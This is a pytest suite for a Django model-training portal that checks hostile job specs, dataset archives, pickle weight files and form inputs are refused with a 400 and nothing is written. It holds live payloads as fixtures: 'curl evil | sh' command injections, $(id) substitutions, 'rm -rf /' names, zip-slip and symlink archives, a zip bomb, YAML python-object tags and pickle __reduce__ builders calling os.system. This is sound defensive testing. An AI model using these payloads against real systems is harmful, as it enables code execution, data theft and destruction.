"""A corpus of hostile specs and archives: each is a fast 400 naming the problem, and nothing
is written outside the team's storage."""

from __future__ import annotations

import stat
import time

import pytest

from apps.datasets.models import Dataset
from apps.jobs.models import Job
from tests.conftest import SEED_SPEC, api_client
from tests.datasets.archives import DATA_YAML, PNG, make_zip, upload, valid_files, zip_bomb

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
task_name: [*g,*g,*g,*g,*g,*g,*g,*g,*g]
"""


def seed_with(**lines: str) -> str:
    text = SEED_SPEC
    for key, value in lines.items():
        prefix = f"{key}:"
        kept = [line for line in text.splitlines() if not line.startswith(prefix)]
        text = "\n".join(kept + [f"{key}: {value}"]) + "\n"
    return text


# (name, YAML body, the field the 400 must name, a word the message must contain)
HOSTILE_SPECS = [
    ("billion-laughs", BILLION_LAUGHS, "spec", "anchors"),
    ("10MB", "task_name: x\n" + "#" * 10 * 1024**2, "spec", "limit"),
    ("python-object", "task_name: !!python/object/apply:os.system ['touch /tmp/owned']\n", "spec", "YAML"),
    ("python-name", "task_name: !!python/name:os.system\n", "spec", "YAML"),
    ("deep-nesting", "task_name: " + "[" * 5000 + "]" * 5000 + "\n", "spec", "nesting"),
    ("huge-int", "task_name: x\ntimeout: " + "9" * 6000 + "\n", "spec", "YAML"),
    ("download-key", seed_with(download='"bash -c \'curl evil | sh\'"'), "download", "not a known field"),
    ("data-root", seed_with(command='"yolo train data=/ model=yolov8n.yaml"'), "command.data", "no '/' prefix"),
    ("data-dotdot", seed_with(command='"yolo train data=../../etc model=yolov8n.yaml"'), "command.data", ".."),
    ("model-dotdot", seed_with(command='"yolo train data=demo model=../../etc/passwd.pt"'), "command.model", ".."),
    ("shell-chain", seed_with(command='"yolo train data=demo model=yolov8n.yaml && curl evil"'), "command",
     "key=value"),
    ("shell-subst", seed_with(command='"yolo train data=$(id) model=yolov8n.yaml"'), "command.data",
     "may only contain"),
    ("shell-backtick", seed_with(command='"yolo train data=demo model=`id`.pt"'), "command.model",
     "may only contain"),
    ("shell-pipe-value", seed_with(command='"yolo train data=demo model=yolov8n.yaml optimizer=SGD|sh"'),
     "command.optimizer", "must be one of"),
    ("not-yolo", seed_with(command='"bash -c id"'), "command", "must start with 'yolo'"),
    ("newline-in-name", seed_with(task_name='"a\\nrm -rf /"'), "task_name", "at most 200"),
    ("semicolon-in-name", seed_with(task_name='"a; rm -rf /"'), "task_name", "at most 200"),
    ("charge-other-team", seed_with(user="robotics"), "user", "not a member"),
    ("state", seed_with(state="running"), "state", "cannot be set"),
    ("node", seed_with(node="node-a"), "node", "cannot be set"),
    ("device", seed_with(command='"yolo train data=demo model=yolov8n.yaml device=0,1,2,3"'), "command.device",
     "cannot be set"),
    # Finding 1: another team's weights through the shared weights fallback.
    ("other-teams-weights", seed_with(command='"yolo train data=demo model=robotics/secret.pt"'), "command.model",
     "bare file name"),
    ("other-teams-weights-structured", seed_with(command='""', train="{data: demo, model: robotics/secret.pt}")
     .replace('command: ""\n', ""), "train.model", "bare file name"),
    ("shared-store-subfolder", seed_with(command='"yolo train data=demo model=robotics/../yolov8n.pt"'),
     "command.model", ".."),
    # Finding 6: arguments that exhaust what the node shares with other jobs.
    ("save-every-epoch", seed_with(command='"yolo train data=demo model=yolov8n.yaml epochs=10000 save_period=1"'),
     "command.save_period", "limit"),
    ("64-workers", seed_with(command='"yolo train data=demo model=yolov8n.yaml workers=64"'), "command.workers",
     "limit"),
    ("workers-over-cpus", seed_with(command='"yolo train data=demo model=yolov8n.yaml workers=4"'),
     "command.workers", "CPU"),
    ("cache-ram", seed_with(command='"yolo train data=demo model=yolov8n.yaml cache=ram"'), "command.cache",
     "RAM"),
    ("cache-true", seed_with(command='"yolo train data=demo model=yolov8n.yaml cache=true"'), "command.cache",
     "RAM"),
    # cache=disk writes an .npy beside each image into the team's shared dataset folder.
    ("cache-disk", seed_with(command='"yolo train data=demo model=yolov8n.yaml cache=disk"'), "command.cache",
     "dataset's own folder"),
    # Finding 9: uploads in progress and deleted datasets sit in hidden folders of the team's root.
    ("hidden-dataset-folder", seed_with(command='"yolo train data=.deleted-abc/data.yaml model=yolov8n.yaml"'),
     "command.data", "hidden"),
]


@pytest.fixture
def weights_store(settings, tmp_path):
    """A shared weights store with one public file and one file in another team's folder."""
    settings.WEIGHTS_DIR = tmp_path / "weights"
    (settings.WEIGHTS_DIR / "robotics").mkdir(parents=True)
    (settings.WEIGHTS_DIR / "robotics" / "secret.pt").write_bytes(b"robotics only")
    (settings.WEIGHTS_DIR / "yolov8n.pt").write_bytes(b"shared")
    return settings.WEIGHTS_DIR


@pytest.mark.parametrize(("body", "field", "word"), [c[1:] for c in HOSTILE_SPECS], ids=[c[0] for c in HOSTILE_SPECS])
def test_a_hostile_spec_is_a_fast_400_naming_the_problem(body, field, word, bob, demo_registered, weights_store):
    # "Fast" is this process's CPU time (the test client runs the view in-process): a bomb
    # burns CPU seconds, while wall time on a loaded CI machine says nothing about the input.
    client = api_client(bob)
    started = time.process_time()
    response = client.post("/api/v1/jobs/", body, content_type="application/yaml")
    elapsed = time.process_time() - started
    assert response.status_code == 400, response.content[:300]
    errors = response.json()
    assert field in errors, errors
    assert isinstance(errors[field], list), errors  # the one shape of a 400, also for a spec that does not parse
    message = " ".join(errors[field])
    assert word in message, message
    assert elapsed < 2.0
    assert not Job.objects.exists()


def test_json_nested_past_the_recursion_limit_is_a_400(bob):
    response = api_client(bob).post("/api/v1/jobs/", "[" * 50000 + "]" * 50000, content_type="application/json")
    assert response.status_code == 400 and "spec" in response.json()


# --- dataset YAMLs already in the team's storage, referenced by path -------------------------


@pytest.fixture
def team_storage(settings, tmp_path):
    settings.DATASETS_DIR = tmp_path / "datasets"
    root = settings.DATASETS_DIR / "vision"
    (root / "d" / "images" / "train").mkdir(parents=True)
    return root


@pytest.mark.parametrize(("data_yaml", "word"), [
    ('path: {root}/d\ntrain: images/train\nval: images/train\ndownload: "bash get.sh"\n', "download"),
    ("path: /\ntrain: etc\nval: etc\n", "outside"),
    ("path: {root}/d\ntrain: ../../../etc\nval: images/train\n", ".."),
    ("path: {root}/d\ntrain: /etc\nval: images/train\n", "outside"),
    ("path: .\ntrain: images/train\nval: images/train\n", "absolute"),
    ("train: images/train\nval: ..\n", ".."),
    ("path: {root}/d\ntrain: list.txt\nval: images/train\n", "not a file"),
    ("a: &x 1\nb: *x\n", "anchors"),
])
def test_a_hostile_dataset_yaml_in_team_storage_is_refused_at_submit(data_yaml, word, bob, team_storage):
    (team_storage / "d" / "list.txt").write_text("/etc/passwd\n")
    (team_storage / "d" / "data.yaml").write_text(data_yaml.format(root=team_storage))
    spec = {"task_name": "t", "command": "yolo train data=d/data.yaml model=yolov8n.yaml"}
    response = api_client(bob).post("/api/v1/jobs/", spec, format="json")
    assert response.status_code == 400
    assert word in response.json()["command.data"][0]


# --- archives ---------------------------------------------------------------------------------

HOSTILE_ARCHIVES = [
    ("zip-slip", lambda: make_zip(valid_files() | {"../../evil.txt": b"x"}), "../../evil.txt", "zip slip"),
    ("zip-slip-nested", lambda: make_zip(valid_files() | {"images/../../evil.png": b"x"}), "images/../../evil.png",
     "zip slip"),
    ("absolute", lambda: make_zip(valid_files() | {"/tmp/evil.txt": b"x"}), "/tmp/evil.txt", "absolute"),
    ("drive-letter", lambda: make_zip(valid_files() | {"C:/evil.txt": b"x"}), "C:/evil.txt", "absolute"),
    ("backslash", lambda: make_zip(valid_files() | {"..\\..\\evil.txt": b"x"}), "..\\..\\evil.txt", "backslash"),
    ("symlink", lambda: make_zip(valid_files(), symlinks={"images/train/evil.png": "/etc/passwd"}),
     "images/train/evil.png", "symbolic link"),
    ("fifo", lambda: make_zip(valid_files(), special={"images/train/evil.png": stat.S_IFIFO | 0o644}),
     "images/train/evil.png", "device, pipe"),
    ("script", lambda: make_zip(valid_files() | {"get.sh": b"curl evil | sh"}), "get.sh", "unexpected file type"),
    ("duplicate", lambda: make_zip(valid_files() | {"images/train/./0.png": b"x"}), "images/train/./0.png", "twice"),
    ("train-escape", lambda: make_zip(valid_files() | {"data.yaml": b"train: ../../etc\nval: images/val\nnames: [a]\n"}),
     "data.yaml: train", "'..'"),
    ("train-list-file", lambda: make_zip(valid_files() | {
        "data.yaml": b"train: labels/train/0.txt\nval: images/val\nnames: [a, b]\n"}), "data.yaml: train", "list"),
    ("yaml-python", lambda: make_zip(valid_files() | {"data.yaml": b"names: !!python/object/apply:os.system [id]\n"}),
     "data.yaml", "YAML"),
    ("yaml-laughs", lambda: make_zip(valid_files() | {"data.yaml": BILLION_LAUGHS.encode()}), "data.yaml", "anchors"),
    ("no-data-yaml", lambda: make_zip({k: v for k, v in valid_files().items() if k != "data.yaml"}), "data.yaml",
     "missing"),
    # A file and a folder of one name: extraction could not make the folder (a 500: trial28 F1).
    ("file-and-folder", lambda: make_zip(valid_files() | {"images/train/0.txt/1.png": PNG,
                                                          "labels/train/0.txt/1.txt": b"0 0.5 0.5 0.2 0.2\n"}),
     "labels/train/0.txt", "a folder of that name"),
    ("file-and-folder-entry", lambda: make_zip(valid_files() | {"labels/train/0.txt/more/": b""}),
     "labels/train/0.txt", "a folder of that name"),
]


@pytest.fixture
def storage(settings, tmp_path):
    settings.DATASETS_DIR = tmp_path / "datasets"
    return tmp_path


def assert_nothing_written(tmp_path):
    written = [p for p in tmp_path.rglob("*")]
    assert all(p.is_dir() and p.name in ("datasets", "vision") for p in written), written


@pytest.mark.parametrize(("build", "path", "word"), [c[1:] for c in HOSTILE_ARCHIVES],
                         ids=[c[0] for c in HOSTILE_ARCHIVES])
def test_a_hostile_archive_is_a_fast_400_naming_the_entry(build, path, word, bob, storage):
    content = build()
    started = time.process_time()
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
    elapsed = time.process_time() - started
    assert response.status_code == 400, response.content[:500]
    body = response.json()
    assert body["file"], body
    problems = {p["path"]: p["problem"] for p in body["problems"]}
    assert path in problems, problems
    assert word in problems[path], problems[path]
    assert elapsed < 2.0
    assert not Dataset.objects.exists()
    assert_nothing_written(storage)


def test_an_upload_of_images_with_a_file_and_a_folder_of_one_name_is_a_400_naming_the_file(bob, storage):
    response = api_client(bob).post("/api/v1/datasets/", {
        "file": upload(make_zip({"a.png": PNG, "a.png/b.png": PNG})), "name": "x", "kind": "images"},
        format="multipart")
    assert response.status_code == 400, response.content[:500]
    problems = {p["path"]: p["problem"] for p in response.json()["problems"]}
    assert "a folder of that name" in problems["a.png"], problems
    assert not Dataset.objects.exists()
    assert_nothing_written(storage)


def test_ultralytics_label_caches_in_an_archive_are_skipped_never_stored(bob, storage):
    """Ultralytics unpickles ``*.cache`` files: a zip of a folder trained on locally holds them.
    They were refused (the user re-zipped without them; `yoloq dataset push` of the folder left them
    out); now they are skipped and named, and never written."""
    evil = {"labels/train.cache": b"\x80\x04evil", "labels/val.CACHE": b"\x80\x04evil"}
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(valid_files() | evil)),
                                                          "name": "x"}, format="multipart")
    assert response.status_code == 201, response.content[:500]
    assert response.json()["skipped"] == ["labels/train.cache", "labels/val.CACHE"]
    assert not [p for p in storage.rglob("*") if p.name.lower().endswith(".cache")]


def test_an_archives_download_and_path_are_dropped_never_run_or_followed(bob, storage):
    """Ultralytics executes data.yaml's `download` and resolves the splits against `path`: an
    upload's are dropped (named in `skipped`), so the stored data.yaml has neither and nothing ran."""
    marker = storage / "ran"
    hostile = (DATA_YAML + f"path: /\ndownload: |\n  import os; os.system('touch {marker}')\n").encode()
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(valid_files() | {
        "data.yaml": hostile})), "name": "x"}, format="multipart")
    assert response.status_code == 201, response.content[:500]
    assert [line.split(" (")[0] for line in response.json()["skipped"]] == ["data.yaml: download", "data.yaml: path"]
    stored = (storage / "datasets" / "vision" / "x" / "v1" / "data.yaml").read_text()
    assert "download" not in stored and "path" not in stored and "os.system" not in stored
    assert not marker.exists()


def test_an_archives_path_never_makes_a_folder_outside_it_a_split(bob, storage):
    """`path:` naming a folder outside the upload that holds images/val: the split is still looked
    for inside the archive only, so one without images/val is refused naming the key."""
    outside = storage / "elsewhere"
    (outside / "images" / "val").mkdir(parents=True)
    (outside / "images" / "val" / "0.png").write_bytes(PNG)
    files = {k: v for k, v in valid_files().items() if not k.startswith(("images/val", "labels/val"))}
    files["data.yaml"] = (DATA_YAML + f"path: {outside}\n").encode()
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(files)), "name": "x"},
                                    format="multipart")
    assert response.status_code == 400
    problems = {p["path"]: p["problem"] for p in response.json()["problems"]}
    assert "not in the archive" in problems["data.yaml: val"]
    assert not Dataset.objects.exists() and not list((storage / "datasets").rglob("*.png"))


@pytest.mark.parametrize(("content", "word"), [
    (b"this is not a zip", "not a readable zip"),
    (b"", "empty"),
    (b"PK\x03\x04" + b"\0" * 100, "not a readable zip"),
])
def test_a_file_that_is_not_a_zip_is_refused(content, word, bob, storage):
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
    assert response.status_code == 400
    assert word in " ".join(response.json()["file"])
    assert_nothing_written(storage)


def test_a_zip_bomb_is_refused_from_its_directory_alone(bob, storage):
    content = zip_bomb()
    assert len(content) < 1024**2
    started = time.process_time()
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(content), "name": "x"}, format="multipart")
    assert response.status_code == 400
    assert "zip bomb" in response.json()["file"][0]
    assert time.process_time() - started < 2.0
    assert_nothing_written(storage)


def test_an_archive_over_the_uncompressed_limit_is_refused(bob, storage, settings):
    settings.DATASET_MAX_UNCOMPRESSED_BYTES = 100
    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(valid_files())), "name": "x"},
                                    format="multipart")
    assert response.status_code == 400 and "would unpack to" in response.json()["file"][0]
    assert_nothing_written(storage)


def test_a_member_that_lies_about_its_size_stops_extraction(tmp_path):
    """Declared 10 bytes, inflates to more: extraction stops (zipfile also refuses past the declared size)."""
    import io
    import zipfile

    from apps.datasets.archive import ArchiveLimits, ArchiveRejected, archive_extract, archive_inspect

    content = bytearray(make_zip(valid_files() | {"images/train/big.png": PNG + b"A" * 5000}, compression=zipfile.ZIP_STORED))
    plan = archive_inspect(io.BytesIO(bytes(content)), size=len(content), limits=ArchiveLimits())
    # Shrink the declared size in the central directory after inspection.
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("images/train/big.png")
    info_offset = bytes(content).rfind(b"images/train/big.png") - 46
    content[info_offset + 24: info_offset + 28] = (10).to_bytes(4, "little")
    with pytest.raises((ArchiveRejected, zipfile.BadZipFile)):
        archive_extract(io.BytesIO(bytes(content)), plan, destination=tmp_path / "out")
    assert info.file_size == len(PNG) + 5000


# --- request bodies and portal inputs (findings 4, 5, 10) ------------------------------------------


@pytest.mark.parametrize(("path", "length"), [
    ("/api/v1/datasets/", 50 * 1024**3), ("/api/v1/jobs/", 10 * 1024**2), ("/jobs/new/", 10 * 1024**2),
    ("/accounts/login/", 100 * 1024**2), ("/admin/login/", 100 * 1024**2),
])
def test_an_oversized_body_is_a_413_from_the_asgi_app_before_any_of_it_is_read(path, length):
    """The whole ASGI application (yoloportal.asgi) answers from Content-Length alone."""
    from asgiref.sync import async_to_sync
    from asgiref.testing import ApplicationCommunicator

    from yoloportal.asgi import application

    async def run():
        scope = {"type": "http", "method": "POST", "path": path, "raw_path": path.encode(), "query_string": b"",
                 "headers": [(b"host", b"testserver"), (b"content-length", str(length).encode())],
                 "http_version": "1.1", "scheme": "http", "server": ("testserver", 80), "client": ("10.0.0.1", 1)}
        communicator = ApplicationCommunicator(application, scope)  # no body message is ever sent
        start = await communicator.receive_output(timeout=5)
        body = await communicator.receive_output(timeout=5)
        return start["status"], body["body"]

    status, body = async_to_sync(run)()
    assert status == 413 and b"limit" in body


@pytest.mark.parametrize("value", ["abc", "../../etc/passwd", "00000000-0000-0000-0000-00000000000g", "1 OR 1=1",
                                   "%00"])
def test_a_hostile_from_parameter_is_a_404(value, bob):
    from django.test import Client

    client = Client()
    client.force_login(bob)
    assert client.get("/jobs/new/", {"from": value}).status_code == 404


@pytest.mark.parametrize(("form", "field"), [
    ({"name": "x\nSet-Cookie: a=b", "ttl_days": "7"}, "name"),
    ({"name": "<script>alert(1)</script>", "ttl_days": "7"}, "name"),
    ({"name": "x", "ttl_days": "9" * 50}, "ttl_days"),
    ({"name": "x", "ttl_days": "-1"}, "ttl_days"),
    ({"name": "x", "ttl_days": "1e9"}, "ttl_days"),
])
def test_hostile_portal_token_values_are_refused_at_their_field(form, field, bob):
    from django.test import Client

    from apps.accounts.models import ApiToken

    client = Client()
    client.force_login(bob)
    response = client.post("/tokens/", form)
    assert response.status_code == 400 and f'data-field="{field}"' in response.content.decode()
    assert not ApiToken.objects.filter(user=bob).exists()


def test_a_login_spray_is_cut_off_on_both_sign_in_pages(bob, settings):
    from django.test import Client

    settings.REST_FRAMEWORK = settings.REST_FRAMEWORK | {
        "DEFAULT_THROTTLE_RATES": settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"] | {"login": "5/min"}}
    client = Client()
    codes = [client.post(page, {"username": "bob", "password": f"guess-{n}"}).status_code
             for n in range(6) for page in ("/accounts/login/", "/admin/login/")]
    assert codes[:5] == [200] * 5 and set(codes[5:]) == {429}


# --- hostile weights (issue 10): pickles that run code, zip tricks, oversized files ------------


def _hostile_pt(kind: str) -> bytes:
    import io
    import os
    import pickle
    import subprocess
    import zipfile

    class Reduce:
        def __init__(self, func, args):
            self.func, self.args = func, args

        def __reduce__(self):
            return self.func, self.args

    payloads = {
        "os.system": Reduce(os.system, ("touch /tmp/owned-by-weights",)),
        "subprocess": Reduce(subprocess.Popen, (["id"],)),
        "eval": Reduce(eval, ("__import__('os').getcwd()",)),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if kind in payloads:
            archive.writestr("w/data.pkl", pickle.dumps({"model": payloads[kind]}, protocol=4))
        elif kind == "two pickles":
            archive.writestr("w/data.pkl", pickle.dumps({}, protocol=4))
            archive.writestr("x/data.pkl", pickle.dumps({}, protocol=4))
        elif kind == "traversal":
            archive.writestr("w/data.pkl", pickle.dumps({}, protocol=4))
            archive.writestr("w/../../etc/cron.d/x", b"* * * * * root id")
    return buffer.getvalue()


@pytest.mark.parametrize(("kind", "word"), [
    ("os.system", "posix.system"), ("subprocess", "subprocess.Popen"), ("eval", "builtins.eval"),
    ("two pickles", "top folders"), ("traversal", "unsafe entry name"),
])
def test_hostile_weights_are_a_400_naming_what_is_wrong(kind, word, bob, settings, tmp_path):
    import os

    from django.core.files.uploadedfile import SimpleUploadedFile

    from apps.registry.models import ModelVersion

    settings.MODELS_DIR = tmp_path / "models"
    upload = SimpleUploadedFile("yolov8s.pt", _hostile_pt(kind))
    response = api_client(bob).post("/api/v1/weights/", {"file": upload}, format="multipart")
    assert response.status_code == 400 and word in response.json()["file"][0]
    assert not ModelVersion.objects.exists() and not os.path.exists("/tmp/owned-by-weights")


def test_oversized_weights_are_refused_before_they_are_read(bob, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.WEIGHTS_UPLOAD_MAX_BYTES = 4096
    upload = SimpleUploadedFile("big.pt", b"PK\x03\x04" + b"\0" * (2 * 1024**2))
    response = api_client(bob).post("/api/v1/weights/", {"file": upload}, format="multipart")
    assert response.status_code == 400 and "limit" in response.json()["file"][0]


def test_the_weights_body_limit_applies_at_the_asgi_door(settings):
    from yoloportal.body_limit import MULTIPART_SLACK, body_limit_for

    settings.WEIGHTS_UPLOAD_MAX_BYTES = 10 * 1024**2
    assert body_limit_for("/api/v1/weights/") == 10 * 1024**2 + MULTIPART_SLACK


@pytest.mark.parametrize("query", ["team=%00", "state=fail%00ed", "na%00me=x"])
def test_a_nul_in_a_query_parameter_is_a_400_naming_it(query, bob):
    """PostgreSQL stores no NUL: a filter given one was a 500 there (found by the live API fuzz)."""
    response = api_client(bob).get(f"/api/v1/jobs/?{query}")
    assert response.status_code == 400
    (field,) = response.json()
    assert field in {"team", "state", "na\\x00me"} and "NUL" in response.json()[field][0]


@pytest.mark.parametrize(("path", "form", "field"), [
    ("/notifications/", {"action": "channel", "name": "my\x00phone", "kind": "email", "target": "bob@example.com"},
     "name"),
    ("/jobs/new/", {"mode": "yaml", "y-spec_text": SEED_SPEC, "idempotency_key": "k\x00"}, "idempotency_key"),
], ids=["channel-name", "idempotency-key"])
def test_a_nul_in_a_portal_form_is_a_400_naming_it_and_nothing_is_stored(path, form, field, bob, demo_registered):
    """A portal form's text went to the database as typed: a channel named with a NUL was stored (on
    PostgreSQL, which stores no NUL in text, a 500), as was a submit's idempotency key (trial28 F3)."""
    from django.test import Client

    from apps.notifications.models import Channel

    client = Client()
    client.force_login(bob)
    response = client.post(path, form)
    assert response.status_code == 400, response.content[:300]
    assert "NUL" in response.json()[field][0]
    assert not Channel.objects.exists() and not Job.objects.exists()


@pytest.mark.parametrize("ids", ["99999999999999999999999", "1,99999999999999999999999", "\u00b2", "1,\u00b2", "\u0661"])
def test_a_hostile_compare_id_is_a_404_like_any_id_not_yours(ids, bob):
    """An id past SQLite's integers was an OverflowError, a digit str.isdigit takes and int() does not ('²') a
    ValueError: both 500s (sec19, F5)."""
    from django.test import Client

    client = Client()
    client.force_login(bob)
    assert client.get("/models/compare/", {"ids": ids}).status_code == 404


@pytest.mark.parametrize("after", ["\u00b2", "\u0661", "-1", "1.5"])
def test_a_hostile_audit_after_is_a_400_naming_it(after, alice):
    """``after=²`` passed str.isdigit and failed int(): a 500 (sec19, F6)."""
    response = api_client(alice).get("/api/v1/audit/", {"after": after})
    assert response.status_code == 400 and list(response.json()) == ["after"], response.content
